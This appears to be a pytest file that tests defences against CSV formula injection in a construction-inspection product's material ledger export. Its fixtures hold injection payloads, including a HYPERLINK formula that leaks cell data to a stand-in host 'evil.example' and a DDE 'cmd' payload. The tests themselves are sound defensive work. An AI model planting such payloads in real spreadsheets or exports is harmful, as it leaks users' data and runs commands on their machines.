"""Spreadsheet formulas in CSV files (OWASP CSV injection): text a user typed never reaches a CSV
cell in a form a spreadsheet would run, and every CSV the product writes goes through the one
writer that sees to it."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from inspection.csvsafe import safe_cell
from tests.factories import World

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = {
    "specification": '=HYPERLINK("http://evil.example/?leak="&A1,"详情")',
    "manufacturer": "+cmd|' /C calc'!A0",
    "batch_number": "@SUM(1+1)",
}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("-2+3", "'-2+3"),
        ("-1)*cmd", "'-1)*cmd"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # numbers are data: a negative deviation stays a number the spreadsheet can add up
        ("-2.1", "-2.1"),
        ("+5", "+5"),
        ("1e3", "1e3"),
        (Decimal("-2.1"), Decimal("-2.1")),
        (-7, -7),
        ("HRB400E Φ12", "HRB400E Φ12"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
    ],
)
def test_cells_that_would_run_as_formulas_are_neutralised(value: object, written: object) -> None:
    assert safe_cell(value) == written


async def test_material_ledger_csv_neutralises_formulas(world: World) -> None:
    body = {
        "project_id": str(world.id_of("p1")),
        "material": "rebar",
        "quantity": 12,
        "unit": "t",
        "arrival_date": "2026-11-02",
        "work_item_id": str(world.id_of("work_a")),
        **HOSTILE,
    }
    r = await world.post("contractor_a", "/api/v1/samples/batches", body)
    assert r.status_code == 201, r.text
    r = await world.get("supervisor", "/api/v1/samples/ledger.csv", params={"project_id": str(world.id_of("p1"))})
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    (line,) = rows[1:]
    assert line[2] == "'" + HOSTILE["specification"]
    assert line[3] == "'" + HOSTILE["manufacturer"]
    assert line[4] == "'" + HOSTILE["batch_number"]
    assert line[5] == "12"  # the quantity, a number, as it was
    for cell in line:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


def test_every_csv_is_written_through_the_safe_writer() -> None:
    """A new CSV export written with `csv.writer` directly would skip the neutralising: the product's
    code may use the csv module's writers only inside inspection/csvsafe.py."""
    offenders = []
    for folder in ("inspection", "api"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            if path == ROOT / "inspection" / "csvsafe.py":
                continue
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                    if isinstance(node.value, ast.Name) and node.value.id == "csv":
                        offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
                if isinstance(node, ast.ImportFrom) and node.module == "csv":
                    if any(a.name in ("writer", "DictWriter") for a in node.names):
                        offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert not offenders, f"write CSV with inspection.csvsafe.SafeWriter: {offenders}"
